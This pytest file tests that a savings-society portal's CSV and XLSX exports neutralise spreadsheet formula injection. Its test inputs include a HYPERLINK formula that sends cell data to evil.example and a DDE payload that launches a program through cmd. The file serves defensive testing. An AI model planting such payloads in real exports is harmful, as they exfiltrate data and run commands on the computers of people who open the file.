"""Issue 12: no CSV or XLSX the system writes runs a formula a member (or anyone) typed. Text cells that start with
= + - @ tab or CR get a leading quote in CSV and stay text in XLSX; numbers (a negative Decimal too) stay numbers."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from openpyxl import load_workbook

from portal.contributions.services import monthly_contribution_record, share_capital_payment_record
from portal.members import roles
from portal.members.models import Member
from portal.reports.catalogue import REPORT_TYPES, Period
from portal.reports.saved_reports import report_run
from portal.society.csv_safe import FORMULA_STARTS, csv_text, neutralise_csv_cell
from portal.society.tabular import Section, TabularReport, render
from tests.conftest import sign_in_verified

pytestmark = pytest.mark.django_db

EVIL = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1"]
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def formula_like(cells) -> list[str]:
    """Cells a spreadsheet would run: start with = + - @ tab CR and are not a plain (negative) number."""
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _xlsx_formulas(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("value", EVIL)
def test_neutralise_quotes_formula_text_and_leaves_numbers(value):
    assert neutralise_csv_cell(value) == "'" + value
    assert neutralise_csv_cell(Decimal("-5.00")) == Decimal("-5.00")
    assert csv_text(Decimal("-5.00")) == "-5.00" and csv_text(-3) == "-3" and csv_text(None) == ""
    assert neutralise_csv_cell("Akinyi") == "Akinyi" and neutralise_csv_cell("0712") == "0712"


def test_tabular_csv_and_xlsx_keep_text_as_text_and_numbers_as_numbers():
    rows = [[value, Decimal("-5.00"), -2] for value in EVIL]
    report = TabularReport(
        "=title", "+covers", [Section("@heading", ["=col", "Amount", "N"], rows)], datetime.datetime(2026, 1, 1)
    )
    cells = _csv_cells(render(report, "csv"))
    assert formula_like(cells) == []
    assert "'=1+1" in cells and "-5.00" in cells and "-2" in cells
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    sheet = book.worksheets[0]
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert _xlsx_formulas(render(report, "xlsx")) == []
    assert "=1+1" in values and -5 in values  # the text itself, as a string; the amount as a number


@pytest.fixture
def evil_member(member):
    """Legacy or admin-typed data shaped like formulas in every exported text field of a member."""
    member.user.first_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    member.user.last_name = "@SUM(A1:A9)"
    member.user.save()
    Member.objects.filter(pk=member.pk).update(
        phone_number="=1+1", employer="+cmd|' /C calc'!A0", payroll_number="-2+3", national_id="\t=1"
    )
    return member


@pytest.mark.parametrize("output", ["csv", "xlsx"])
def test_clerks_member_export_carries_formulas_neutralised(client, staff_user, evil_member, output):
    clerk = staff_user(roles.CLERKS)
    sign_in_verified(client, clerk)
    response = client.get(f"/admin/snippets/members/member/?export={output}")
    assert response.status_code == 200
    data = _body(response)
    if output == "csv":
        cells = _csv_cells(data)
        assert formula_like(cells) == []
        assert "'=1+1" in cells and "'+cmd|' /C calc'!A0" in cells and "'\t=1" in cells
    else:
        assert _xlsx_formulas(data) == []
        values = [c.value for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
        assert "=1+1" in values


@pytest.mark.parametrize("output", ["csv", "xlsx"])
def test_members_own_savings_export_neutralises_references(client, member, output):
    monthly_contribution_record(
        member=member, amount="2000", period="2026-01", reference="=1+1", date=datetime.date(2026, 1, 25)
    )
    sign_in_verified(client, member.user)
    response = client.get(f"/portal/contributions/?_export={output}")
    assert response.status_code == 200
    data = _body(response)
    if output == "csv":
        cells = _csv_cells(data)
        assert formula_like(cells) == [] and "'=1+1" in cells
    else:
        assert _xlsx_formulas(data) == []


@pytest.mark.parametrize("output", ["csv", "xlsx"])
def test_audit_trail_export_neutralises(client, staff_user, evil_member, output):
    from portal.audit.services import EDIT, audit_log

    admin = staff_user(roles.ADMINISTRATORS)
    audit_log(
        instance=evil_member,
        action=EDIT,
        by=admin,
        summary="=1+1 summary",
        before={"phone_number": "=1+1"},
        after={"phone_number": "@x"},
    )
    sign_in_verified(client, admin)
    response = client.get(f"/admin/audit/?export={output}")
    assert response.status_code == 200, response.status_code
    data = _body(response)
    if output == "csv":
        assert formula_like(_csv_cells(data)) == []
    else:
        assert _xlsx_formulas(data) == []


@pytest.mark.parametrize("output", ["csv", "xlsx"])
def test_financial_statements_export_neutralises_account_names_keeps_negative_amounts(output):
    from portal.finance.ledger.models import Account
    from portal.reports.exports import RENDERERS
    from portal.reports.financial import financial_statements

    Account.objects.filter(code="1010").update(name="=HYPERLINK(1)")  # a cash account named by staff
    data = financial_statements(start=datetime.date(2026, 1, 1), end=datetime.date(2026, 1, 31))
    data["trial_balance"]["rows"].append({"code": "9999", "name": "-x", "debit": "-5.00", "credit": ""})
    content = RENDERERS[output](data, "=Title")
    if output == "csv":
        cells = _csv_cells(content)
        assert formula_like(cells) == [] and "-5.00" in cells and "'-x" in cells
    else:
        assert _xlsx_formulas(content) == []


@pytest.mark.parametrize("output", ["csv", "xlsx"])
@pytest.mark.parametrize("report_type", list(REPORT_TYPES))
def test_every_saved_report_type_is_neutralised(make_user, evil_member, report_type, output):
    share_capital_payment_record(member=evil_member, amount="5000", reference="=sc", date=datetime.date(2025, 12, 20))
    monthly_contribution_record(
        member=evil_member, amount="2000", period="2025-12", reference="@dep", date=datetime.date(2025, 12, 28)
    )
    admin = make_user("admin@sacco.example", role=roles.ADMINISTRATORS)
    admin.groups.add(*Group.objects.filter(name__in=[roles.AUDITORS, roles.TREASURER]))
    run = report_run(
        report_type=report_type, by=admin, period=Period.PREVIOUS_YEAR, output_format=output, title="=evil title"
    )
    with run.file.open("rb") as handle:
        content = handle.read()
    if output == "csv":
        assert formula_like(_csv_cells(content)) == []
    else:
        assert _xlsx_formulas(content) == []


def test_wagtail_own_exports_are_neutralised_too(client, staff_user, evil_member):
    """Wagtail's site history export (its SpreadsheetExportMixin) goes through the same writer."""
    from wagtail.log_actions import log

    admin = staff_user(roles.ADMINISTRATORS)
    admin.is_superuser = True
    admin.save()
    log(instance=evil_member, action="wagtail.edit", user=admin, title="=1+1")
    sign_in_verified(client, admin)
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    cells = _csv_cells(_body(response))
    assert formula_like(cells) == [] and "'=1+1" in cells


def test_control_characters_do_not_fail_an_xlsx_file(client, staff_user, member):
    """openpyxl refuses the control characters XML cannot hold: one name with a stray BEL failed the whole file
    (a 500 on the admin list, a failed report run). They are dropped from the cell; the rest of the text stays."""
    Member.objects.filter(pk=member.pk).update(employer="Kenya\x07 Power\x1b")
    sign_in_verified(client, staff_user(roles.CLERKS))
    response = client.get("/admin/snippets/members/member/?export=xlsx")
    assert response.status_code == 200
    values = [c.value for row in load_workbook(io.BytesIO(_body(response))).active.iter_rows() for c in row]
    assert "Kenya Power" in values
    section = Section("All", ["Employer"], [["Kenya\x07 Power\x00"]])
    report = TabularReport("Members", "today", [section], datetime.datetime(2026, 1, 1))
    sheet = load_workbook(io.BytesIO(render(report, "xlsx"))).worksheets[0]
    assert "Kenya Power" in [c.value for row in sheet.iter_rows() for c in row]
